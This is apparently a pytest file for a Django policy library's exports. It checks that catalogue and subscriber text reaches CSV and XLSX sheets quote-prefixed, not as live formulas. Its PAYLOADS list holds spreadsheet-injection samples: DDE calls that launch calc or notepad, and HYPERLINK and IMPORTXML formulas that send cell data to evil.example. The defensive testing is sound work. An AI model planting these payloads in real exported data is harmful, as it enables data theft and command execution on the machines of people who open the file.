"""Spreadsheet formula injection: no text from the catalogue or the public subscribe form reaches a spreadsheet
as a formula, in any export (the library's .csv and .xlsx, the admin's import-export sheets, the subscriber
CSV), and the text stays readable (OWASP: prefixed with a single quote)."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX

from policies.models import Entry, Kind
from policies.resources import AnalysisResource, BriefingResource, EntryResource, PolicyResource
from policies.safety import spreadsheet_cell, spreadsheet_text
from practices.resources import PracticeResource
from subscribers.models import Subscriber
from tests.factories import EntryFactory, PracticeEntryFactory
from tests.library.conftest import indexed
from tests.subscribers.helpers import make_subscriber

pytestmark = [pytest.mark.django_db]

# What Excel, LibreOffice or Google Sheets would evaluate (or hand to DDE), in several spellings.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    '\u3000=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "\u00a0+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
HARMLESS = ["关于推进政务服务“跨省通办”的通知", "2022年8月", "a=b", "政务 = 服务", "'已经加了引号", ""]


def looks_like_formula(value):
    """What a spreadsheet would evaluate: the first non-blank character is one of the formula prefixes."""
    if not isinstance(value, str):
        return False
    stripped = value.lstrip(" \u00a0\u3000")
    return bool(stripped) and stripped[0] in "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫"


def xlsx_cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: cells keep their data_type
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(content, payloads):
    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [value for value in values if looks_like_formula(value)]
    for payload in payloads:  # still readable: the payload itself follows the quote
        assert f"'{payload}" in values or any(payload.strip() and payload.strip() in v for v in values), payload


def csv_cells(text):
    text = text.lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_safe(text, payloads):
    cells = csv_cells(text)
    assert not [cell for cell in cells if looks_like_formula(cell)]
    for payload in payloads:
        assert f"'{payload}" in cells, payload


# --- the helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_prefixed_with_a_quote_and_reads_back(payload):
    cell = spreadsheet_cell(payload)
    assert cell == "'" + payload
    assert spreadsheet_cell(cell) == cell  # idempotent
    assert spreadsheet_text(cell) == payload


@pytest.mark.parametrize("value", [*HARMLESS, 12, 3.5, None])
def test_other_values_pass_unchanged(value):
    assert spreadsheet_cell(value) == value
    assert spreadsheet_text(value) == value


def test_characters_an_xlsx_cannot_hold_are_dropped():
    assert spreadsheet_cell("标题\x00\x01\x1b\x7f后") == "标题\x7f后"
    assert spreadsheet_cell("\x00=1+1") == "'=1+1"


# --- the library's exports -------------------------------------------------------------------------


@pytest.fixture
def poisoned_entries(db):
    entries = []
    for index, payload in enumerate(PAYLOADS):
        entries.append(
            EntryFactory(
                title=payload if index % 2 == 0 else f"{payload}（标题）",
                issuer=payload,
                summary=f"**{payload}**" if index % 3 == 0 else payload,
                regions=[320000],
            )
        )
    entries.append(EntryFactory(title="控制字符\x01\x02标题", summary="正文\x1b\x0b", regions=[320000]))
    return indexed(*entries)


def test_the_library_xlsx_export_holds_no_formula(sales_client, poisoned_entries):
    response = sales_client.get("/library/export.xlsx", {"region": "320000"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert_xlsx_safe(content, PAYLOADS)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.max_row == len(PAYLOADS) + 2  # every entry is there, the control characters did not break it


def test_the_library_csv_export_holds_no_formula(sales_client, poisoned_entries):
    response = sales_client.get("/library/export.csv", {"region": "320000"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert_csv_safe(text, PAYLOADS)
    assert len(list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))) == len(PAYLOADS) + 2


# --- the admin's import-export resources -------------------------------------------------------------


RESOURCES = [
    (PolicyResource, Kind.POLICY),
    (PracticeResource, Kind.PRACTICE),
    (AnalysisResource, Kind.ANALYSIS),
    (BriefingResource, Kind.BRIEFING),
    (EntryResource, Kind.POLICY),
]


@pytest.mark.parametrize(("resource", "kind"), RESOURCES)
def test_every_resource_exports_formulas_as_text_in_xlsx_and_csv(resource, kind):
    for payload in PAYLOADS:
        EntryFactory(kind=kind, title=payload, issuer=payload, doc_number=payload, summary=payload, body=payload)
    data = resource().export()
    assert_xlsx_safe(XLSX().export_data(data), PAYLOADS)
    assert_csv_safe(CSV().export_data(data), PAYLOADS)


@pytest.mark.parametrize(("file_format", "format_index"), [(XLSX, "0"), (CSV, "1")])
def test_the_admin_export_view_writes_no_formula(client, researcher, file_format, format_index):
    for payload in PAYLOADS:
        PracticeEntryFactory(title=payload, summary=payload)
    client.force_login(researcher)
    url = reverse("admin:practices_practice_export")
    form = client.get(url).context["form"]
    data = {"resource": "0", "format": format_index}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    response = client.post(url, data)
    assert response["Content-Disposition"].startswith("attachment")
    if file_format is XLSX:
        assert_xlsx_safe(response.content, PAYLOADS)
    else:
        assert_csv_safe(response.content.decode("utf-8-sig"), PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_an_exported_title_imports_back_as_it_was(payload):
    policy = EntryFactory(title=payload, summary=f"{payload} 摘要", regions=[320000])
    for file_format in (XLSX(), CSV()):
        content = file_format.export_data(PolicyResource().export())
        policy.title = "改过的标题"
        policy.save()
        result = PolicyResource().import_data(file_format.create_dataset(content), dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors()
        policy.refresh_from_db()
        assert policy.title == payload


def test_an_uploaded_quote_prefixed_cell_is_read_without_its_quote():
    headers = ["编号", "标题", "发文机关", "文号", "级别", "地区", "主题", "日期", "原文链接", "摘要", "状态"]
    row = ["", "'=1+1", "'+江苏", "", "省级", "江苏", "", "2022-08-01", "", "'-摘要", ""]
    result = PolicyResource().import_data(tablib.Dataset(row, headers=headers), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    policy = Entry.objects.get()
    assert (policy.title, policy.issuer, policy.summary) == ("=1+1", "+江苏", "-摘要")


# --- the subscriber CSV --------------------------------------------------------------------------------


def test_the_subscriber_export_writes_names_and_organisations_as_text(client, chief_editor):
    for index, payload in enumerate(PAYLOADS):
        subscriber = make_subscriber(f"s{index}@example.org", name=payload)
        Subscriber.objects.filter(pk=subscriber.pk).update(organisation=payload)
    client.force_login(chief_editor)
    response = client.post(
        reverse("admin:subscribers_subscriber_changelist"),
        {"action": "export_csv", "_selected_action": list(Subscriber.objects.values_list("pk", flat=True))},
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert_csv_safe(text, PAYLOADS)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == len(PAYLOADS) + 1
